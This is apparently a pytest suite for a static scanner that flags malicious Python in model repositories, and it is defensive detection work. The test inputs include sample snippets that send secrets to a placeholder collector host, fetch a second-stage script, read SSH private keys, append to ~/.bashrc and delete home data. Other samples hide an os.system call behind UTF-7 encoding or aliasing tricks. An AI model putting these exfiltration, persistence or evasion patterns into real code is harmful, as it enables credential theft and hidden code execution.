"""PythonCodeScanner: one regression test per behaviour family, alias-tracking evasions, and
ordinary modeling code that must stay quiet. Sources are parsed, never run."""

from __future__ import annotations

import textwrap

import pytest

from canary import Canary
from pellucid.budget import Budget
from pellucid.model import Artifact, FileKind, Finding, Severity
from pellucid.scanners.base import ScanContext, ScanResult
from pellucid.scanners.python_code import PythonCodeScanner
from pellucid.source import ByteSource


def scan(code: str | bytes, budget: Budget | None = None) -> ScanResult:
    data = code if isinstance(code, bytes) else textwrap.dedent(code).encode()
    artifact = Artifact("repo/modeling_tiny.py", FileKind.PYTHON, len(data))
    ctx = ScanContext(budget=budget or Budget())
    return PythonCodeScanner().scan(artifact, ByteSource(data), ctx)


def only(result: ScanResult, rule_id: str) -> list[Finding]:
    return [f for f in result.findings if f.rule_id == rule_id]


def test_process_spawning_through_aliases(canary: Canary) -> None:
    result = scan(f"""\
        import os as o
        from subprocess import Popen as P
        run = getattr(o, "system")
        run({canary.shell!r})
        P(["sh", "-c", {canary.shell!r}])
        __import__("os").popen({canary.shell!r})
        """)
    hits = only(result, "PCL-PY-001")
    assert [(f.evidence.line, f.severity) for f in hits] == [
        (4, Severity.HIGH),
        (5, Severity.HIGH),
        (6, Severity.HIGH),
    ]
    assert hits[0].evidence.snippet == f"run({canary.shell!r})"
    assert "os.system" in hits[0].detail
    assert "subprocess.Popen" in hits[1].detail


def test_star_import_of_subprocess_resolves_bare_names() -> None:
    result = scan("from subprocess import *\ncall(['id'])\n")
    assert [(f.rule_id, f.evidence.line) for f in result.findings] == [
        ("PCL-PY-001", 1),
        ("PCL-PY-001", 2),
    ]


def test_builtins_lookups_resolve_exec() -> None:
    result = scan(
        "import builtins\nvars(builtins)['exec']('x = 1')\ngetattr(__builtins__, 'eval')(data)\n"
    )
    assert [(f.rule_id, f.evidence.line) for f in result.findings] == [
        ("PCL-PY-005", 2),
        ("PCL-PY-005", 3),
    ]
    assert "of a literal" in result.findings[0].detail
    assert "computed" in result.findings[1].detail


def test_native_library_loading() -> None:
    result = scan("""\
        import ctypes
        from torch.utils.cpp_extension import load_inline
        lib = ctypes.CDLL("./libpayload.so")
        ext = load_inline(name="k", cpp_sources=[src])
        ffi.dlopen("libc.so.6")
        """)
    assert [(f.rule_id, f.evidence.line) for f in result.findings] == [
        ("PCL-PY-002", 3),
        ("PCL-PY-002", 4),
        ("PCL-PY-002", 5),
    ]


def test_network_clients() -> None:
    result = scan("""\
        import requests, socket
        from urllib.request import urlopen
        requests.post("https://collector.invalid", data=secret)
        s = socket.socket()
        urlopen("https://example.invalid/stage2.py")
        """)
    assert [(f.rule_id, f.severity, f.evidence.line) for f in result.findings] == [
        ("PCL-PY-003", Severity.HIGH, 3),
        ("PCL-PY-003", Severity.HIGH, 4),
        ("PCL-PY-003", Severity.HIGH, 5),
    ]


def test_exec_of_base64_decoded_payload_through_variables(canary: Canary) -> None:
    import base64

    blob = base64.b64encode(canary.python.encode()).decode()
    result = scan(f"""\
        import base64, zlib
        stage = base64.b64decode({blob!r})
        code = stage.decode()
        exec(code)
        eval(zlib.decompress(data))
        exec("".join(chr(c) for c in [111, 115, 46, 115]))
        exec("tcejbo"[::-1])
        """)
    hits = only(result, "PCL-PY-004")
    assert [f.evidence.line for f in hits] == [4, 5, 6, 7]
    assert {f.severity for f in hits} == {Severity.HIGH}
    assert hits[0].evidence.snippet == "exec(code)"


def test_exec_and_eval_of_literals_are_medium() -> None:
    result = scan("eval('1 + 1')\ncompile(source, '<x>', 'exec')\n")
    assert [(f.rule_id, f.severity) for f in result.findings] == [
        ("PCL-PY-005", Severity.MEDIUM),
        ("PCL-PY-005", Severity.MEDIUM),
    ]


def test_file_writes_and_deletes() -> None:
    result = scan("""\
        import os, shutil
        from pathlib import Path
        open(os.path.expanduser("~/.bashrc"), "a").write("payload")
        Path("/tmp/x").write_text("y")
        os.remove("/tmp/z")
        shutil.rmtree(os.path.expanduser("~/data"))
        with open("vocab.txt", encoding="utf-8") as f:
            f.read()
        """)
    assert [(f.rule_id, f.evidence.line) for f in result.findings] == [
        ("PCL-PY-006", 3),
        ("PCL-PY-006", 4),
        ("PCL-PY-006", 5),
        ("PCL-PY-006", 6),
    ]
    assert {f.severity for f in result.findings} == {Severity.MEDIUM}


def test_writes_in_save_functions_are_low_unless_called_on_import() -> None:
    result = scan("""\
        def save_vocabulary(self, path):
            with open(path, "w", encoding="utf-8") as f:
                f.write("x")
        def save_cache():
            open("/tmp/cache", "w").close()
        save_cache()
        """)
    assert [(f.evidence.line, f.severity) for f in result.findings] == [
        (2, Severity.LOW),
        (5, Severity.MEDIUM),
    ]


def test_unsafe_deserialisers() -> None:
    result = scan("""\
        import pickle, joblib, marshal, yaml, torch
        import numpy as np
        pickle.load(open("extra.pkl", "rb"))
        joblib.load("clf.joblib")
        marshal.loads(blob)
        yaml.load(text)
        yaml.load(text, Loader=yaml.SafeLoader)
        np.load("a.npy", allow_pickle=True)
        np.load("b.npy")
        torch.load("w.bin", weights_only=False)
        torch.load("w.bin")
        torch.load("w.bin", weights_only=True)
        """)
    got = [(f.evidence.line, f.severity) for f in only(result, "PCL-PY-007")]
    assert got == [
        (3, Severity.MEDIUM),
        (4, Severity.MEDIUM),
        (5, Severity.MEDIUM),
        (6, Severity.MEDIUM),
        (8, Severity.MEDIUM),
        (10, Severity.MEDIUM),
        (11, Severity.LOW),
    ]


def test_credential_and_environment_reads() -> None:
    result = scan("""\
        import os
        token = os.environ["HF_TOKEN"]
        key = os.getenv("OPENAI_API_KEY")
        everything = dict(os.environ)
        keys = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        quiet = os.environ.get("TOKENIZERS_PARALLELISM", "false")
        """)
    got = [(f.evidence.line, f.severity) for f in only(result, "PCL-PY-008")]
    assert got == [
        (2, Severity.MEDIUM),
        (3, Severity.MEDIUM),
        (4, Severity.LOW),
        (5, Severity.HIGH),
    ]


def test_monkey_patching_modules_and_builtins() -> None:
    result = scan("""\
        import builtins, sys, torch
        builtins.open = fake_open
        setattr(torch, "load", loose_load)
        sys.modules["safetensors"] = shim
        sys.meta_path.insert(0, Finder())
        torch.backends.cuda.matmul.allow_tf32 = True
        """)
    assert [f.evidence.line for f in only(result, "PCL-PY-009")] == [2, 3, 4, 5]


def test_dynamic_import_with_computed_name() -> None:
    result = scan(
        "import importlib\nm = importlib.import_module(name)\nn = importlib.import_module('json')\n"
    )
    assert [(f.rule_id, f.severity, f.evidence.line) for f in result.findings] == [
        ("PCL-PY-010", Severity.LOW, 2)
    ]


def test_encoded_constants_and_chr_spelling() -> None:
    import base64

    blob = base64.b64encode(bytes(range(256)) * 2).decode()
    result = scan(f"BLOB = {blob!r}\nname = chr(111) + chr(115) + chr(46) + chr(115)\n")
    got = [(f.evidence.line, f.severity) for f in only(result, "PCL-PY-011")]
    assert got == [(1, Severity.LOW), (2, Severity.MEDIUM)]


def test_utf7_source_encoding_hides_an_import() -> None:
    # An editor shows one assignment; Python decodes "+ADs-" to ";" and imports os.
    source = b"# -*- coding: utf-7 -*-\nx = 1 +ADs- import os +ADs- os.system('id')\n"
    result = scan(source)
    assert [(f.rule_id, f.severity, f.evidence.line) for f in result.findings] == [
        ("PCL-PY-011", Severity.MEDIUM, 1),
        ("PCL-PY-001", Severity.HIGH, 2),
    ]


def test_source_that_does_not_parse_is_info() -> None:
    result = scan("print 'python 2'\n")
    assert [(f.rule_id, f.severity, f.evidence.line) for f in result.findings] == [
        ("PCL-PY-012", Severity.INFO, 1)
    ]
    assert result.incomplete == ()


def test_syntax_newer_than_this_python_is_incomplete() -> None:
    result = scan("def f[T](a: T) -> T:\n    return a\n")  # PEP 695, Python 3.12+
    assert [(f.rule_id, f.severity) for f in result.findings] == [("PCL-PY-012", Severity.INFO)]
    assert result.incomplete[0].startswith("Python source not parsed")


def test_decoded_data_taints_names_only_within_their_function() -> None:
    result = scan("""\
        import pickle, zlib
        def read_cache(blob):
            content = zlib.decompress(blob)
            return content
        def load(content):
            return pickle.loads(content)
        def stage(blob):
            content = zlib.decompress(blob)
            return pickle.loads(content)
        """)
    assert [(f.rule_id, f.evidence.line) for f in result.findings] == [
        ("PCL-PY-007", 6),
        ("PCL-PY-004", 9),
    ]


def test_source_over_budget_is_incomplete() -> None:
    result = scan("import os\n" * 100, Budget(max_text_bytes=100))
    assert result.findings == ()
    assert "max_text_bytes" in result.incomplete[0]


def test_findings_per_rule_are_capped() -> None:
    result = scan("import os\n" + "os.system('x')\n" * 60)
    hits = only(result, "PCL-PY-001")
    assert len(hits) == 50
    assert "10 more" in hits[-1].detail


@pytest.mark.parametrize(
    "deep", ["(" * 150 + "1" + ")" * 150, "x = " + "-" * 5000 + "1", "a" + ".b" * 5000]
)
def test_deeply_nested_source_never_raises(deep: str) -> None:
    result = scan(deep + "\n")
    assert all(f.rule_id == "PCL-PY-012" for f in result.findings)
